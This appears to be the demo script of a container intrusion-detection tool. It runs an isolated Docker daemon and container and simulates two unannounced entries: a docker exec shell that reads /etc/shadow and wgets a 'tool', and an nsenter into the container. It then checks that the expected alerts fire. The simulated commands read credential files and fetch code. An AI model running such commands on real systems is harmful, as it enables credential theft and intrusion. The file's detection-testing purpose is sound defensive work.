# SPDX-License-Identifier: Apache-2.0
"""`make demo`: a container, two visits that nobody announced, and the alerts that tell of them.

Stands apart from everything else on the host: a Docker daemon, state folder and port of its own, which are
all gone afterwards.
"""

from __future__ import annotations

import shutil
import subprocess
import time
from contextlib import ExitStack
from typing import TYPE_CHECKING, Final

from sensor import wire
from vagrant.local import host
from vagrant.local.dockerd import Dockerd, DockerFailedError
from vagrant.local.service import LabError
from vagrant.local.stack import Stack
from vagrant.local.terminal import type_into
from vagrant.local.up import print_status

if TYPE_CHECKING:
    from pathlib import Path
    from typing import Any

IMAGE: Final = "busybox:demo"
ALERT_S: Final = 30
"""How long an alert may take from the visit; it takes a second or two."""

EXPECTED: Final = {
    "docker-exec": {"interactive_shell", "network_tool", "recon_credentials"},
    "ns-join": {"ns_join"},
}
"""Means of entry to the detections that must have fired on that visit."""


def demo() -> int:
    """0 when every expected alert was raised, 1 otherwise. LabError when it could not even try."""
    try:
        return _demo()
    except (DockerFailedError, TimeoutError, subprocess.SubprocessError) as error:
        raise LabError(str(error)) from error


def _demo() -> int:
    with ExitStack() as undo:
        root = host.folder() / "demo"
        undo.enter_context(host.only_one(host.folder() / "demo.lock", "make demo"))
        undo.callback(shutil.rmtree, root, ignore_errors=True)
        shutil.rmtree(root, ignore_errors=True)
        undo.enter_context(host.tracefs())
        print("Starting a Docker daemon of its own, and container web ...", flush=True)
        undo.enter_context(host.docker_cgroups())
        docker = undo.enter_context(Dockerd())
        docker.image(IMAGE)
        docker.run(IMAGE, "sleep", "3600", name="web")
        stack = Stack(root, host.port("NSENTRY_DEMO_PORT", 8444), (docker.socket,))
        stack.start(undo)
        print_status(stack.sensor_status() or {})
        _visit(docker)
        missing = _wait(stack)
        _show(stack)
        if missing:
            print(f"\nNot raised within {ALERT_S} s: {'; '.join(missing)}")
            _print_logs(root)
            return 1
        print("\nEvery expected alert was raised. Stopping and removing everything.", flush=True)
    return 0


def _visit(docker: Dockerd) -> None:
    print("\nVisit 1: docker exec, with a shell on a terminal", flush=True)
    typed = ["id", "cat /etc/shadow", "wget -T 1 -O /tmp/tool http://127.0.0.1:9/tool", "exit"]
    type_into(docker.command("exec", "-it", "web", "/bin/sh"), typed)
    print("Visit 2: nsenter, past the Docker API", flush=True)
    enter = f"nsenter -t {docker.init_pid('web')} -a /bin/sh -c 'id; ls /root'"
    # What follows keeps bash from becoming nsenter: it stays the one who entered.
    subprocess.run(["bash", "-c", f"{enter}; true"], check=True, stdout=subprocess.DEVNULL, timeout=30)


def _wait(stack: Stack) -> list[str]:
    """What is still missing when time is up; empty as soon as nothing is."""
    deadline = time.monotonic() + ALERT_S
    while True:
        missing = _missing(stack.read("alerts", "list", "--state", "all"))
        if not missing or time.monotonic() > deadline:
            return missing
        time.sleep(0.3)


def _missing(alerts: list[dict[str, Any]]) -> list[str]:
    return [
        f"{detection} on the visit by {means}"
        for means, detections in EXPECTED.items()
        for detection in sorted(detections)
        if not any(alert["means"] == means and detection in alert["detections"] for alert in alerts)
    ]


def _show(stack: Stack) -> None:
    for what, rows in (
        ("Entries", stack.read("entries", "list")),
        ("Alerts", stack.read("alerts", "list", "--state", "all")),
    ):
        print(f"\n{what}")
        for row in reversed(rows):
            severity = f"{row['severity']}: " if "severity" in row else ""
            # Whoever enters chooses most of these words: nothing in them may steer the terminal.
            print(f"  {row.get('time') or row['last_seen']}  {severity}{wire.printable(row['sentence'])}")


def _print_logs(root: Path) -> None:
    """The logs, before their folder goes."""
    for log in sorted(root.glob("*.log")):
        print(f"\n--- {log}\n{log.read_text(encoding='utf-8', errors='replace')[-4000:]}")
